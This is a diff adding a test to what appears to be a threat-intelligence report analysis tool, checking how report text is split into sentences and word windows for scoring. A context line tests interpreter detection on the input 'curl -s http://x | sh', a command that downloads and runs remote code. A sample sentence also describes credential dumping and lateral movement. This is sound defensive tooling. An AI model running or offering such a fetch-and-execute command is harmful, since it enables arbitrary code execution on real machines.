@@ -32,3 +32,22 @@ test('command lines and interpreters', () => {
   assert.equal(interpreterOf('schtasks /query'), 'cmd');
   assert.equal(interpreterOf('curl -s http://x | sh'), 'sh');
 });
+
+test('scoring units: sentences, word windows of long prose sentences, inline commands; giant reports are capped', async () => {
+  const { scoringUnits, wordWindows } = await import('../../src/intel/scoring.js');
+  const { reportFromPlainText } = await import('../../src/text/index.js');
+  const long = 'After gaining access the operators used a renamed copy of the legitimate remote administration tool to move laterally between the finance servers and then dumped credentials from memory.';
+  const rep = reportFromPlainText(`Title line\n\n${long}\nShort one here.`, { path: 'w.txt' });
+  const s = rep.sentences.findIndex((x) => rep.text.slice(x.start, x.end) === long);
+  const w = wordWindows(rep.text, rep.sentences[s]!, { words: 12, stride: 6, minWords: 18 });
+  assert.ok(w.length >= 3);
+  assert.equal(rep.text.slice(w[0]!.start, w[0]!.end).split(' ').length, 12);
+  assert.equal(w.at(-1)!.end, rep.sentences[s]!.end, 'the last window reaches the sentence end');
+  for (const r of w) assert.equal(rep.text.slice(r.start, r.end), rep.text.slice(r.start, r.end).trim());
+  const units = scoringUnits(rep, 20_000, { words: 12, stride: 6, minWords: 18 });
+  assert.deepEqual(units.slice(0, rep.sentences.length).map((u) => u.kind), rep.sentences.map(() => 'sentence'));
+  assert.ok(units.filter((u) => u.kind === 'window').every((u) => u.sentence === s));
+  assert.equal(scoringUnits(rep, 20_000, false).length, rep.sentences.length, 'no windows without the option');
+  assert.equal(scoringUnits(rep, 1, false).length, 1, 'capped at the first sentences');
+  assert.deepEqual(wordWindows(rep.text, rep.sentences.at(-1)!, { words: 12, stride: 6, minWords: 18 }), [], 'short sentences have none');
+});
